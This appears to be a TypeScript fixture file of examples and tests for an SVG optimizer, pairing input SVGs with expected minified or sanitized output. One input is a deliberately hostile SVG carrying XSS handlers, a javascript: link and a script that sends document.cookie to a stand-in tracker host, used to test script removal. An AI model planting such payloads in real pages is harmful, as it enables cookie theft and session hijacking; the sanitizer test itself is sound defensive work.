import type { SvgOptions } from './core/options';
import type { KitExample } from '../../ui/kit/declaration';

const EDITOR = `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
     xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
     width="24" height="24" viewBox="0 0 24 24" version="1.1" id="svg8" inkscape:version="1.2">
  <sodipodi:namedview id="base" pagecolor="#ffffff" inkscape:zoom="22.4" />
  <metadata id="metadata5"><title>check</title></metadata>
  <g id="layer1" inkscape:label="Layer 1" inkscape:groupmode="layer">
    <path id="path10" style="fill:none;stroke:#000000;stroke-width:2.000000" d="M 4.000000,12.000000 L 9.000000,17.000000 L 20.000000,6.000000" />
  </g>
</svg>
`;
const SHAPES = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100">
  <rect x="10" y="10" width="80" height="80" fill="#ff0000" stroke="none"/>
  <ellipse cx="50" cy="50" rx="20" ry="20" fill="rgb(255, 255, 255)"/>
  <g><line x1="10" y1="90" x2="90" y2="10" stroke="#0000ff"/></g>
</svg>
`;
const HOSTILE = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="alert(1)">
  <script>fetch('https://tracker.example/?c=' + document.cookie)</script>
  <style>@import url(https://fonts.example/font.css); rect { fill: url(https://evil.example/p.svg#g) }</style>
  <image xlink:href="https://tracker.example/pixel.png" width="1" height="1"/>
  <a href="javascript:alert(2)"><rect width="10" height="10" onclick="alert(3)"/></a>
  <use href="#dot" x="2"/>
  <circle id="dot" cx="5" cy="5" r="2" fill="url(#paint)"/>
</svg>
`;

/** Load Example's examples, each also a unit test and a browser test. */
export const EXAMPLES: readonly KitExample<SvgOptions>[] = [
  {
    name: "An editor's icon, minified",
    input: EDITOR,
    expect: {
      output:
        '<svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" viewBox="0 0 24 24"><path d="m4 12 5 5L20 6" style="fill:none;stroke:#000;stroke-width:2"/></svg>',
    },
  },
  {
    name: 'Shapes to paths, pretty',
    input: SHAPES,
    options: { output: 'pretty' },
    expect: {
      output: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100">
  <path fill="red" d="M10 10h80v80H10z"/>
  <circle cx="50" cy="50" r="20" fill="#fff"/>
  <path stroke="#00f" d="m10 90 80-80"/>
</svg>
`,
    },
  },
  {
    name: 'Scripts, handlers and external references removed',
    input: HOSTILE,
    options: { removeScripts: true },
    expect: {
      output:
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><image width="1" height="1"/><a><path d="M0 0h10v10H0z"/></a><use x="2" href="#a"/><circle id="a" cx="5" cy="5" r="2" fill="url(#paint)"/></svg>',
    },
  },
];
